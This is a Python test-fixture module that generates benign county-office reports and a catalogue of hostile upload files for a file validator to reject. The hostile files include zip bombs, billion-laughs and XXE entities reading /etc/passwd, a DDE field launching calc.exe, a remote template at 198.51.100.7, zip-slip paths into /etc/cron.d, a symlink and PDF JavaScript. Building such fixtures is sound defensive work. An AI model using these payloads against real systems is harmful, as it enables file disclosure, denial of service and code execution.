"""Files made in memory: some as a county office makes them, some as an attacker does."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from docx import Document

MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SENTENCE = "青禾县把社区阵地、社会组织和志愿服务放在一张清单里统筹，月月有进度。"

File = tuple[str, bytes]


def paragraph(text: str, properties: str = "") -> str:
    return f"<w:p><w:pPr>{properties}</w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>"


def body(inner: str, before: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document xmlns:w="{MAIN}"><w:body>{inner}</w:body></w:document>'.encode()


def relation(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def zipped(*entries: tuple[str | ZipInfo, bytes], packing: int = ZIP_DEFLATED) -> bytes:
    held = BytesIO()
    with ZipFile(held, "w", packing) as archive:
        for name, data in entries:
            archive.writestr(name, data, packing)
    return held.getvalue()


def word(inner: str = paragraph("正文"), *extra: tuple[str | ZipInfo, bytes], before: str = "") -> bytes:
    """The least that is a Word file, and what else is asked for."""
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", body(inner, before)), *extra)


def pdf(*contents: bytes, trailer: bytes = b"", catalog: bytes = b"") -> bytes:
    """A PDF with one page for each content stream, in Helvetica."""
    pages = range(4, 4 + 2 * len(contents), 2)
    kids = b" ".join(b"%d 0 R" % page for page in pages)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % len(contents),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for page, content in zip(pages, contents, strict=True):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 3 0 R >> >> >>" % (page + 1)
        )
        objects.append(b"<< /Length %d >> stream\n" % len(content) + content + b"\nendstream")
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, written in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + written + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer
    return bytes(out + b">>\nstartxref\n%d\n%%%%EOF\n" % start)


def said(text: str) -> bytes:
    return b"BT /F1 12 Tf 72 720 Td (" + text.encode() + b") Tj ET"


def ten_pages() -> bytes:
    """A report of some ten pages as python-docx writes it."""
    document = Document()
    for section in range(10):
        document.add_heading(f"第{section + 1}部分", 1)
        for _ in range(20):
            document.add_paragraph(SENTENCE * 3)
        table = document.add_table(rows=6, cols=4)
        for cell in table._cells:
            cell.text = "120.00"
    held = BytesIO()
    document.save(held)
    return held.getvalue()


def long_pdf(pages: int) -> bytes:
    """Pages of thirty full lines."""
    line = "the county office reports progress on every task of the list, and "
    lines = "".join(f"({line}{number:02}) Tj T* " for number in range(30))
    return pdf(*[f"BT /F1 12 Tf 20 TL 72 760 Td {lines} ET".encode()] * pages)


def _link() -> bytes:
    link = ZipInfo("word/media/image1.png")
    link.external_attr = 0o120777 << 16
    return word(paragraph("正文"), (link, b"/etc/passwd"))


def _wrong_crc() -> bytes:
    good = zipped(("word/document.xml", body(paragraph("正文"))), packing=ZIP_STORED)
    return good.replace("正文".encode(), "改动".encode())


def _twice() -> bytes:
    """The second name is patched in, as zipfile would warn of it."""
    return word(paragraph("正文"), ("word/documenu.xml", body(paragraph("另文")))).replace(
        b"word/documenu.xml", b"word/Document.xml"
    )


def _lying_sizes() -> bytes:
    """The directory says one kilobyte, the entry unpacks to 100 MB."""
    bomb = bytearray(word(paragraph("正文"), ("word/media/a.xml", b"<a>" + b" " * 100_000_000)))
    at = bomb.rindex(b"PK\x01\x02")
    bomb[at + 24 : at + 28] = struct.pack("<L", 1000)
    return bytes(bomb)


def _overlapping() -> bytes:
    """Two names in the directory for one stretch of packed bytes."""
    data = bytearray(word(paragraph("正文"), ("word/a.xml", b"<a/>"), ("word/b.xml", b"<a/>")))
    first = data.index(b"word/a.xml") - 30
    at = data.rindex(b"PK\x01\x02")
    data[at + 42 : at + 46] = struct.pack("<L", first)
    return bytes(data)


def _zip_pdf() -> bytes:
    return zipped(
        ("first.pdf", pdf(said("hidden"))), ("word/document.xml", body(paragraph("正文"))), packing=ZIP_STORED
    )


def _laughs() -> str:
    names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE w:document [<!ENTITY l0 "哈">{names}]>'


def _step(step: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>'


def _field(*codes: str) -> str:
    """A field with its code cut into several runs, as an editor or an attacker leaves it."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f"<w:p>{_step('begin')}{runs}{_step('end')}</w:p>"


def _encrypted() -> bytes:
    key = b"<" + b"41" * 32 + b">"
    lock = b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O " + key + b" /U " + key + b" >> "
    return pdf(said("locked"), trailer=lock + b"/ID [<41424344> <41424344>] ")


def _packed_page(content: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    plain = pdf(packed)
    return plain.replace(
        b"<< /Length %d >>" % len(packed), b"<< /Length %d /Filter /FlateDecode >>" % len(packed)
    )


_SCRIPT = b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >> "
_PASSWD = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_UTF16 = body(_laughs()).decode().replace("UTF-8", "UTF-16").encode("utf-16")

# What each is, the fault it must be refused for, and the file.
HOSTILE: dict[str, tuple[str, Callable[[], File]]] = {
    "zip bomb, 100 MB": ("swollen", lambda: ("a.docx", word("", ("word/media/a.xml", b" " * 100_000_000)))),
    "zip bomb, ratio": ("swollen", lambda: ("a.docx", word("", ("word/media/a.bmp", bytes(50_000_000))))),
    "zip bomb, false sizes": ("damaged", lambda: ("a.docx", _lying_sizes())),
    "zip bomb, overlapping": ("entry", lambda: ("a.docx", _overlapping())),
    "5,000 entries": (
        "swollen",
        lambda: ("a.docx", word("", *((f"word/{n}.xml", b"<a/>") for n in range(5_000)))),
    ),
    "100 MB of words": ("swollen", lambda: ("a.docx", word(paragraph(SENTENCE * 1_000_000)))),
    "nested zip": ("embedded", lambda: ("a.docx", word("", ("word/media/x.png", word())))),
    "billion laughs": ("markup", lambda: ("a.docx", word("<w:p>&l9;</w:p>", before=_laughs()))),
    "XXE": ("markup", lambda: ("a.docx", word("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", before=_PASSWD))),
    "XXE in another encoding": (
        "markup",
        lambda: ("a.docx", word("", ("word/styles.xml", _UTF16))),
    ),
    "a million tags": (
        "swollen",
        lambda: ("a.docx", word("".join(f'<w:p w:at="{n}"/>' for n in range(1_000_000)))),
    ),
    "deep XML": ("markup", lambda: ("a.docx", word("<w:p>" * 5_000 + "</w:p>" * 5_000))),
    "broken XML": ("markup", lambda: ("a.docx", word("<w:p>"))),
    "macros": ("macros", lambda: ("a.docx", word("", ("word/vbaProject.bin", OLE)))),
    "docm renamed": (
        "macros",
        lambda: (
            "a.docx",
            zipped(
                (
                    "[Content_Types].xml",
                    b'<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
                ),
                ("word/document.xml", body(paragraph("正文"))),
            ),
        ),
    ),
    "ActiveX control": ("macros", lambda: ("a.docx", word("", ("word/activeX/activeX1.xml", b"<a/>")))),
    "DDE, code cut up": ("dde", lambda: ("a.docx", word(_field(" D", "DEAU", "TO c:\\\\calc.exe")))),
    "DDE, simple field": ("dde", lambda: ("a.docx", word('<w:p><w:fldSimple w:instr="DDE excel"/></w:p>'))),
    "DDE, spelt in numbers": ("dde", lambda: ("a.docx", word(_field("QUOTE 68 68 69")))),
    "outside template": (
        "linked",
        lambda: (
            "a.docx",
            word(
                "",
                ("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://198.51.100.7/t.dotm")),
            ),
        ),
    ),
    "outside picture": (
        "linked",
        lambda: (
            "a.docx",
            word("", ("word/_rels/document.xml.rels", relation("image", "\\\\host\\a.png", external=False))),
        ),
    ),
    "OLE object": ("embedded", lambda: ("a.docx", word("", ("word/embeddings/oleObject1.bin", OLE)))),
    "OLE under another name": ("embedded", lambda: ("a.docx", word("", ("word/media/a.emf", OLE)))),
    "imported chunk": (
        "embedded",
        lambda: (
            "a.docx",
            word("", ("word/_rels/document.xml.rels", relation("aFChunk", "a.htm", external=False))),
        ),
    ),
    "zip-slip": ("entry", lambda: ("a.docx", word("", ("../../etc/cron.d/x", b"x")))),
    "absolute name": ("entry", lambda: ("a.docx", word("", ("/etc/cron.d/x", b"x")))),
    "drive name": ("entry", lambda: ("a.docx", word("", ("C:\\x", b"x")))),
    "symlink": ("entry", lambda: ("a.docx", _link())),
    "wrong CRC": ("damaged", lambda: ("a.docx", _wrong_crc())),
    "a name twice": ("entry", lambda: ("a.docx", _twice())),
    "truncated zip": ("damaged", lambda: ("a.docx", word()[:-40])),
    "something before the zip": ("entry", lambda: ("a.docx", word()[:4] + word())),
    "zip that is a PDF too": ("polyglot", lambda: ("a.docx", _zip_pdf())),
    "PDF that is a zip too": ("polyglot", lambda: ("a.pdf", pdf(said("both")) + word())),
    "spreadsheet renamed": ("archive", lambda: ("a.docx", zipped(("xl/workbook.xml", b"<a/>")))),
    "encrypted docx": ("locked", lambda: ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le"))),
    "old doc renamed": ("old_word", lambda: ("a.docx", OLE)),
    "wps": ("wps", lambda: ("a.wps", OLE)),
    "docm": ("macros", lambda: ("a.docm", word())),
    "docx named pdf": ("mismatch", lambda: ("a.pdf", word())),
    "PDF named docx": ("mismatch", lambda: ("a.docx", pdf(said("x")))),
    "text named docx": ("mismatch", lambda: ("a.docx", SENTENCE.encode())),
    "page renamed": ("web", lambda: ("a.txt", b"\xef\xbb\xbf \n<!DOCTYPE html><script>1</script>")),
    "svg renamed": ("web", lambda: ("a.txt", b"<svg onload='x'/>")),
    "svg in UTF-16": ("web", lambda: ("a.txt", "<svg/>".encode("utf-16"))),
    "program renamed": ("program", lambda: ("a.docx", b"MZ\x90\0" + bytes(900))),
    "picture renamed": ("picture", lambda: ("a.pdf", b"GIF89a/*" + bytes(90))),
    "rar renamed": ("archive", lambda: ("a.docx", b"Rar!\x1a\x07")),
    "NUL bytes": ("binary", lambda: ("a.txt", "正文\0".encode())),
    "NUL in UTF-16": ("binary", lambda: ("a.txt", "正文\0".encode("utf-16"))),
    "unknown encoding": ("coding", lambda: ("a.txt", b"\xff\x80\x81\xff")),
    "empty": ("empty", lambda: ("a.txt", b"")),
    "blank": ("empty", lambda: ("a.docx", word(""))),
    "text of 6 MB": ("long", lambda: ("a.txt", SENTENCE.encode() * 60_000)),
    "100 MB": ("large", lambda: ("a.txt", bytes(100_000_000))),
    "truncated PDF": ("damaged", lambda: ("a.pdf", pdf(said("x") * 200)[:-300])),
    "not a PDF inside": ("damaged", lambda: ("a.pdf", b"%PDF-1.7\nnothing\n%%EOF\n")),
    "encrypted PDF": ("locked", lambda: ("a.pdf", _encrypted())),
    "PDF with a script": ("active_pdf", lambda: ("a.pdf", pdf(said("x"), catalog=_SCRIPT))),
    "scan": ("scan", lambda: ("a.pdf", pdf(b"0 0 m 100 100 l S"))),
    "301 pages": ("pages", lambda: ("a.pdf", pdf(*[said("x")] * 301))),
    "PDF bomb": (
        "heavy",
        lambda: ("a.pdf", _packed_page(b"BT /F1 9 Tf " + b"(aaaaaaaaaaaaaaaa) Tj\n" * 1_500_000)),
    ),
}
